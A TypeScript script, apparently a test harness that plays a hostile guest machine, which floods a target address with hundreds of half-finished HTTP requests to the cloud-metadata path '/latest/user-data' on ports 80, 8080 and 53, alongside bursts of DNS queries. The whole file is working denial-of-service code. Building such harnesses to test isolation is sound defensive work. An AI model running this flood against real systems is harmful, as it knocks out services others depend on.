import { createSocket } from "node:dgram";
import { createConnection } from "node:net";

/**
 * `guest-flood-main.ts ADDRESS`: a hostile machine. Opens connections to metadata, passwords and names without end,
 * sends half a request in each, and DNS questions beside; prints "flooding" when the first hundred are out.
 */
const [address = ""] = process.argv.slice(2);
const QUESTION = Buffer.from("00010100000100000000000003777777076578616d706c65036f72670000010001", "hex");
const OPEN_AT_A_TIME = 400;
let opened = 0;
let open = 0;

const udp = createSocket("udp4");
udp.on("error", () => undefined);

function connectAgain(): void {
  while (open < OPEN_AT_A_TIME) {
    open += 1;
    opened += 1;
    if (opened === 100) process.stdout.write("flooding\n");
    const socket = createConnection({ host: address, port: [80, 8080, 53][opened % 3] ?? 80 });
    socket.on("error", () => undefined);
    socket.on("connect", () => socket.write("GET /latest/user-data HTTP/1.1\r\nX-Slow: "));
    socket.on("close", () => {
      open -= 1;
    });
  }
  for (let count = 0; count < 50; count++) udp.send(QUESTION, 53, address);
}

setInterval(connectAgain, 5);
